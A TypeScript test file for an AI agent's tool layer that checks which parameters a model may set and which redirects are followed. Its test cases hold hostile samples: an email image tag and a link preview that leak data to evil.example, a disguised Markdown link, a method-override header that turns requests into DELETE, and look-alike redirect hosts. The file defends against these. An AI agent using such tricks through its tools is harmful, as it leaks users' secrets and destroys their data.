/** What the models of agents can set of each skill, and where their requests may be redirected. */
import { expect, test } from 'vitest';
import type { AgentTool } from '../api/step.ts';
import { parametersOf, redirectsOf } from './agent/tools.ts';
import { SKILL_NAMES, findSkill } from './register.ts';
import { toolProblems, toolsOf } from './tools.ts';

function onlyTool(tool: AgentTool) {
  const [first] = toolsOf({ tools: [tool] });
  if (!first || 'workflow' in first) throw new Error('there is no such tool');
  return first;
}

/** What a model can set where the author wrote nothing. A new parameter must be decided here. */
const OPEN: Record<string, string> = {
  append_row: 'header, range, sheet, values',
  download_file: 'encoding, exportType, fileId, maxBytes',
  http_request: 'body, contentType, expect, followRedirects, maxResponseBytes, query, response',
  read_rows: 'after, header, limit, range, sheet, where',
  reply_email: 'body, subject',
  send_email: 'body, subject',
  send_message: 'replyTo, text',
  update_row: 'header, key, keyColumn, range, row, sheet, values',
  upload_file: 'content, encoding, mimeType, name',
};

test('each parameter that a model can set without a word of the author is listed', () => {
  const skills = SKILL_NAMES.filter((skill) => findSkill(skill)?.notAsTool === undefined);
  const open = skills.map((skill) => [skill, [...onlyTool({ skill }).open].toSorted().join(', ')]);
  expect(Object.fromEntries(open)).toEqual(OPEN);
});

const url = 'https://api.example.com/orders';

test.each<[sentence: string, tool: AgentTool, given: object]>([
  ['the method of a request', { skill: 'http_request', parameters: { url } }, { method: 'DELETE' }],
  [
    'a header that asks for another method',
    { skill: 'http_request', parameters: { url, method: 'POST' } },
    { headers: { 'X-HTTP-Method-Override': 'DELETE' } },
  ],
  [
    'a mail with images that its reader loads',
    { skill: 'send_email', parameters: { to: 'ada@example.com', subject: 's', body: 'b' } },
    { html: '<img src="https://evil.example/?d=secret">' },
  ],
  [
    'a preview, for which the service requests the link',
    { skill: 'send_message', parameters: { chatId: '1' } },
    { text: 'https://evil.example/?d=secret', linkPreview: true },
  ],
  [
    'a format that hides where a link leads',
    { skill: 'send_message', parameters: { chatId: '1' } },
    { text: '[the bank](https://evil.example)', format: 'Markdown' },
  ],
  [
    'that a file is replaced',
    { skill: 'upload_file', parameters: { folderId: 'reports' } },
    { name: 'a.txt', content: 'x', overwrite: true },
  ],
  [
    'that programs are answered',
    { skill: 'reply_email', parameters: { mail: { from: 'ada@example.com' } } },
    { body: 'b', answerAutomatic: true },
  ],
])('a model cannot set %s', (_sentence, tool, given) => {
  const call = { id: '1', name: tool.skill ?? '', arguments: JSON.stringify(given) };
  expect(parametersOf(onlyTool(tool), tool.parameters ?? {}, call)).toEqual({
    problem: expect.stringMatching(/ has no parameter /) as string,
  });
});

test('the author may admit methods', () => {
  const tool: AgentTool = { skill: 'http_request', parameters: { url }, modelMaySet: { method: 'P*T' } };
  expect(toolProblems({ tools: [tool] })).toEqual([]);
  const isRight = (method: string) => {
    const call = { id: '1', name: 'http_request', arguments: JSON.stringify({ method }) };
    return 'parameters' in parametersOf(onlyTool(tool), { url }, call);
  };
  expect(['PUT', 'POST', 'DELETE', 'PATCH'].filter(isRight)).toEqual(['PUT', 'POST']);
});

test.each<[to: string, fixed: boolean, pattern: boolean]>([
  ['https://api.example.com/orders/8', true, true],
  ['https://api.example.com/admin', true, false],
  ['https://evil.example/orders/8', false, false],
  ['https://api.example.com:8443/orders/8', false, false],
  ['http://api.example.com/orders/8', false, false],
  ['https://api.example.com.evil.example/orders/8', false, false],
])('a redirect to %s is followed: %s from a fixed URL, %s from a pattern', (to, fixed, pattern) => {
  const from = new URL(`${url}/7`);
  expect(redirectsOf({ modelMaySet: {} })(from, new URL(to))).toBe(fixed);
  expect(redirectsOf({ modelMaySet: { url: `${url}/*` } })(from, new URL(to))).toBe(pattern);
});
